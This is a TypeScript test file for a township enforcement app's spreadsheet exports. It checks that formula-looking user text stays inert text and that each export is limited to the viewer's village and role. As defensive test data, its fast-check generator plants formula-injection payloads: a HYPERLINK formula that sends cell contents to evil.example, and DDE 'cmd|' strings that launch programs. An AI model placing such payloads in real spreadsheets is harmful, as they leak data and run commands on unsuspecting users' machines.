import { count, eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import { FORMULA_START } from '../../api/domain/enforcement/tables/xlsx.ts';
import { villages } from '../../db/schema.ts';
import { enterprises } from '../../db/schema-enforcement.ts';
import { cellCenter } from '../../api/seed/demo-geography.ts';
import { freshContext } from '../helpers/context.ts';
import { json, signIn } from '../helpers/staff.ts';

const { ctx, app } = await freshContext();
const office = signIn(ctx, 'shouli');
const zhulinOfficer = signIn(ctx, 'zhulin');
const leader = signIn(ctx, 'lingdao');
const villageRows = ctx.db.select({ id: villages.id, code: villages.code, name: villages.name }).from(villages).all();
const zhulin = villageRows.find((v) => v.code === 'qingxi-zhulin')!;
const ZHULIN_AT = cellCenter(1, 1);

const get = (path: string, cookie: string) => app.request(path, { headers: { cookie } });
const xlsxOf = async (res: Response) => Buffer.from(await res.arrayBuffer());
// exceljs's own Buffer type lags Node's.
const load = (wb: ExcelJS.Workbook, bytes: Buffer) => wb.xlsx.load(bytes as unknown as ArrayBuffer);

/**
 * Every cell of the first sheet whose text starts like a formula: its value, number format and whether its xf carries
 * quotePrefix.
 */
async function formulaLikeCells(bytes: Buffer) {
  const wb = new ExcelJS.Workbook();
  await load(wb, bytes);
  // exceljs does not read quotePrefix back: look at the xf each cell's style index names.
  const zip = await JSZip.loadAsync(bytes);
  const styles = await zip.file('xl/styles.xml')!.async('string');
  const cellXfs = /<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/.exec(styles)![1]!.match(/<xf\b[^>]*?(\/>|>)/g)!;
  const sheet = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
  const styleOf = new Map(
    [...sheet.matchAll(/<c r="([A-Z]+\d+)"(?: s="(\d+)")?/g)].map((m) => [m[1]!, Number(m[2] ?? 0)]),
  );
  const out: { address: string; value: string; numFmt: string | undefined; quotePrefix: boolean }[] = [];
  wb.worksheets[0]!.eachRow((row) =>
    row.eachCell((cell) => {
      if (typeof cell.value === 'string' && FORMULA_START.test(cell.value)) {
        const xf = cellXfs[styleOf.get(cell.address) ?? 0] ?? '';
        out.push({
          address: cell.address,
          value: cell.value,
          numFmt: cell.numFmt,
          quotePrefix: /quotePrefix="1"/.test(xf) && /numFmtId="49"/.test(xf),
        });
      }
    }),
  );
  return out;
}

/** User text that a spreadsheet would start to read as a formula once the cell is edited. */
const formulaText = fc
  .tuple(
    fc.constantFrom('=', '+', '-', '@', '＝', '＋', '－', '＠'),
    fc.constantFrom(
      'HYPERLINK("http://evil.example/?"&A1,"点我")',
      "cmd|' /C calc'!A0",
      '1+1',
      'SUM(A1:A9)',
      "2+5+cmd|' /C notepad'!A0",
      '作坊',
    ),
  )
  .map(([start, rest]) => `${start}${rest}`);

describe('formula-looking user text in every .xlsx export', () => {
  const planted: Record<string, string>[] = [];

  it('stays text word for word in the dynamic list (Text format, quote prefix) and imports back the same', async () => {
    const samples = fc.sample(
      fc.record({
        name: formulaText,
        industry: formulaText,
        address: formulaText,
        personInCharge: formulaText,
        responsible: formulaText,
        environment: formulaText,
      }),
      { numRuns: 6, seed: 42 },
    );
    for (const [i, s] of samples.entries()) {
      const fields = {
        name: `${s.name}${i}`,
        industry: s.industry,
        address: s.address,
        personInCharge: s.personInCharge,
        responsible: s.responsible,
        problems: { environment: s.environment },
      };
      const res = await app.request('/api/admin/enterprises', {
        method: 'POST',
        ...json(
          {
            ...fields,
            businessLicence: true,
            villageId: zhulin.id,
            lat: ZHULIN_AT.lat + i * 0.0003,
            lng: ZHULIN_AT.lng,
          },
          office,
        ),
      });
      expect(res.status, await res.clone().text()).toBe(201);
      planted.push({
        name: fields.name,
        industry: s.industry,
        address: s.address,
        personInCharge: s.personInCharge,
        responsible: s.responsible,
        environment: s.environment,
      });
    }
    const res = await get('/api/admin/exports/dynamic-list.xlsx', office);
    expect(res.status).toBe(200);
    const bytes = await xlsxOf(res);
    const cells = await formulaLikeCells(bytes);
    const expected = planted.flatMap((p) => Object.values(p));
    expect(cells.map((c) => c.value).sort()).toEqual(expected.sort()); // each exactly as typed: no apostrophe added
    for (const c of cells) expect(c, c.address).toMatchObject({ numFmt: '@', quotePrefix: true });

    // The export goes back in as the same records (the import reads values, not formats).
    const second = await freshContext();
    const cookie = signIn(second.ctx, 'shouli');
    const imported = await second.app.request('/api/admin/imports/dynamic-list', {
      method: 'POST',
      headers: { cookie, 'content-type': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' },
      body: new Uint8Array(bytes),
    });
    expect(imported.status, await imported.clone().text()).toBe(200);
    const back = second.ctx.db.select().from(enterprises).all();
    for (const p of planted) {
      const row = back.find((e) => e.name === p.name)!;
      expect(row).toMatchObject({
        industry: p.industry,
        address: p.address,
        personInCharge: p.personInCharge,
        responsible: p.responsible,
      });
      expect(row.problems.environment).toBe(p.environment);
    }
  });

  it('stays text in the shutdown register and task table', async () => {
    const ids = ctx.db.select({ id: enterprises.id, name: enterprises.name }).from(enterprises).all();
    for (const e of ids.slice(0, 3)) {
      const res = await app.request('/api/admin/tasks', {
        method: 'POST',
        ...json(
          {
            enterpriseId: e.id,
            type: 'shutdown',
            villageLead: '－王村长',
            townshipLead: '@李镇长',
            dueOn: '2027-01-31',
            measures: '=断水断电',
          },
          office,
        ),
      });
      expect(res.status, await res.clone().text()).toBe(201);
    }
    for (const which of ['register', 'tasks']) {
      const res = await get(`/api/admin/tables/shutdown-register.xlsx?which=${which}`, office);
      expect(res.status).toBe(200);
      const cells = await formulaLikeCells(await xlsxOf(res));
      expect(cells.length, which).toBeGreaterThanOrEqual(3); // the enterprise names at least
      for (const c of cells)
        expect(c, `${which} ${c.address} ${c.value}`).toMatchObject({ numFmt: '@', quotePrefix: true });
      for (const e of ids.slice(0, 3)) expect(cells.map((c) => c.value)).toContain(e.name);
    }
  });

  it('leaves ordinary text, numbers and dates as they were', async () => {
    const cells = await formulaLikeCells(await xlsxOf(await get('/api/admin/tables/progress.xlsx', office)));
    expect(cells).toEqual([]); // no user text there starts like a formula
    const wb = new ExcelJS.Workbook();
    await load(wb, await xlsxOf(await get('/api/admin/exports/dynamic-list.xlsx', office)));
    const line = wb.worksheets[0]!.getRow(3);
    expect(typeof line.getCell(1).value).toBe('number');
    expect(line.getCell(8).numFmt).not.toBe('@'); // 已办理
  });
});

describe('exports scoped to the viewer', () => {
  it("refuses a village officer another village's list (404), without its name or an empty file", async () => {
    const others = villageRows.filter((v) => v.id !== zhulin.id);
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(fc.constantFrom(...others.map((v) => v.id)), fc.integer({ min: 1000, max: 2 ** 31 })),
        async (villageId) => {
          const res = await get(`/api/admin/exports/dynamic-list.xlsx?villageId=${villageId}`, zhulinOfficer);
          expect(res.status).toBe(404);
          expect(res.headers.get('content-type')).toMatch(/json/);
          const body = await res.text();
          for (const v of others) expect(body).not.toContain(v.name);
        },
      ),
      { numRuns: 30 },
    );
  });

  it('gives the village officer his own list, by his id or none, titled with his village', async () => {
    for (const q of [`?villageId=${zhulin.id}`, '', '?villageId=']) {
      const res = await get(`/api/admin/exports/dynamic-list.xlsx${q}`, zhulinOfficer);
      expect(res.status, q).toBe(200);
      const wb = new ExcelJS.Workbook();
      await load(wb, await xlsxOf(res));
      expect(String(wb.worksheets[0]!.getCell(1, 1).value)).toContain(zhulin.name);
      expect(decodeURIComponent(res.headers.get('content-disposition')!)).toContain(zhulin.name);
    }
  });

  it('refuses the office a village that does not exist, and any ill-formed id, before writing a file', async () => {
    expect((await get('/api/admin/exports/dynamic-list.xlsx?villageId=999999', office)).status).toBe(404);
    for (const bad of ['0x1', '1e0', '-1', 'abc', '1.5'])
      expect((await get(`/api/admin/exports/dynamic-list.xlsx?villageId=${bad}`, office)).status, bad).toBe(400);
  });

  it('keeps the township tables (报表) to the office and leaders', async () => {
    for (const path of [
      '/api/admin/tables/progress.xlsx',
      '/api/admin/tables/shutdown-register.xlsx',
      '/api/admin/tables/progress',
    ]) {
      expect((await get(path, zhulinOfficer)).status, path).toBe(403);
      expect((await get(path, signIn(ctx, 'shengtai'))).status, path).toBe(403);
      expect((await get(path, leader)).status, path).toBe(200);
    }
    expect(
      ctx.db.select({ n: count() }).from(enterprises).where(eq(enterprises.villageId, zhulin.id)).get()!.n,
    ).toBeGreaterThan(0);
  });
});
